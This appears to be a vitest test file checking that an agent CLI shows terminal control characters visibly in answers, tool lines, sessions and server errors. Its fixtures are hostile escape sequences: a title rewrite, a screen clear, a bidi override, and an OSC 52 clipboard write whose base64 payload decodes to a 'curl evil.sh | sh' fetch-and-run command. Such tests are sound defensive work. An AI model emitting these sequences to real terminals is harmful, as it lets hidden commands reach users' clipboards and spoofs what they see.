// What the model, a tool, a stored session or a server wrote reaches the terminal with its
// control characters visible (as git and Claude Code show them): no escape sequence can retitle
// the window, write the clipboard (OSC 52), clear the screen or reorder the text.
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCliProcess } from './runCli.js';
import { useCliProject } from './cliProject.js';

const project = useCliProject('tinyagent-cli-controls-');

const TITLE = '\u001b]0;pwned\u0007';
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
const CLEAR = '\u001b[2J\u001b[H';
const C1_CSI = '\u009b31m';
const BIDI = '\u202eevil\u202c';
const HOSTILE = `${TITLE}${CLIPBOARD}${CLEAR}${C1_CSI}${BIDI}\r`;
// Nothing a terminal acts on: ESC, BEL, CR, C1 controls, bidirectional overrides.
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const RAW_CONTROL = /[\u001b\u0007\r\u0080-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('control characters from outside the CLI', () => {
  it('are shown visibly in the answer, the tool lines, sessions show and sessions list', async () => {
    writeFileSync(path.join(project.dir, `${'\u001b'}[31mred.txt`), 'x');
    await project.serve([
      {
        text: `Working ${TITLE}`,
        calls: [
          { id: 'c1', name: 'read_file', args: { path: `missing${CLEAR}.txt` } },
          { id: 'c2', name: `bad${TITLE}`, args: {} },
          { id: 'c3', name: 'list_files', args: { pattern: '*' } },
        ],
      },
      { text: `Answer ${HOSTILE} end` },
    ]);
    const result = await runCliProcess(['run', `prompt ${CLIPBOARD}`, '--session', 'hostile'], { cwd: project.dir, env: project.env() });
    expect(result.code).toBe(0);
    expect(result.stdout).not.toMatch(RAW_CONTROL);
    expect(result.stderr).not.toMatch(RAW_CONTROL);
    expect(result.stdout).toBe('Answer ^[]0;pwned^G^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G^[[2J^[[H<U+009B>31m<U+202E>evil<U+202C>^M end\n');
    expect(result.stderr).toContain('Working ^[]0;pwned^G');
    expect(result.stderr).toContain('missing^[[2J^[[H.txt');
    expect(result.stderr).toContain('bad^[]0;pwned^G');

    const shown = await runCliProcess(['sessions', 'show', 'hostile'], { cwd: project.dir, env: project.env() });
    expect(shown.code).toBe(0);
    expect(shown.stdout).not.toMatch(RAW_CONTROL);
    expect(shown.stdout).toContain('^[[31mred.txt'); // a file name from list_files' result
    expect(shown.stdout).toContain('<U+202E>evil');
    const listed = await runCliProcess(['sessions', 'list'], { cwd: project.dir, env: project.env() });
    expect(listed.stdout).not.toMatch(RAW_CONTROL);
    expect(listed.stdout).toContain('prompt ^[]52;c;');
  });

  it('are shown visibly in the error messages of a model server and an MCP server', async () => {
    await project.serve([{ status: 400, body: JSON.stringify({ error: { message: `bad request ${C1_CSI}` } }) }]);
    writeFileSync(path.join(project.dir, '.mcp.json'), JSON.stringify({ mcpServers: { broken: { command: path.join(project.dir, `missing${TITLE}`) } } }));
    const result = await runCliProcess(['run', 'hi', '--mcp-config', '.mcp.json'], { cwd: project.dir, env: project.env() });
    expect(result.code).toBe(1);
    expect(result.stderr).not.toMatch(RAW_CONTROL);
    expect(result.stderr).toContain('bad request <U+009B>31m');
    expect(result.stderr).toMatch(/warning: MCP server broken failed: .*missing\^\[\]0;pwned\^G/);
  });

  it('are escaped in JSON output and parse back to the text the model sent', async () => {
    await project.serve([{ text: `Answer ${HOSTILE}` }]);
    const result = await runCliProcess(['run', 'hi', '--output-format', 'stream-json'], { cwd: project.dir, env: project.env() });
    expect(result.code).toBe(0);
    expect(result.stdout).not.toMatch(RAW_CONTROL);
    const last = JSON.parse(result.stdout.trim().split('\n').at(-1)!) as { result: string };
    expect(last.result).toBe(`Answer ${HOSTILE}`);
  });
});
